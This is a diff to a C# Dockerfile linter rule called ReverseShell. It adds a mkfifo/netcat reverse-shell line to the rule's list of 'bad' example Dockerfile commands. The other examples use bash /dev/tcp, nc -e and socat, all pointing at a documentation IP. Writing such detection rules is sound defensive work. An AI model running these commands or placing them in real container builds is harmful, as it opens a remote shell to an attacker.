@@ -24,6 +24,7 @@ internal sealed class ReverseShell : Rule<Dockerfile>
         Example.Bad("Dockerfile", """
             FROM debian:12.8
             RUN bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <--
+            RUN mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f <--
             RUN exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5 2>&5 <--
             CMD ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"] <--
             ENTRYPOINT socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444 <--
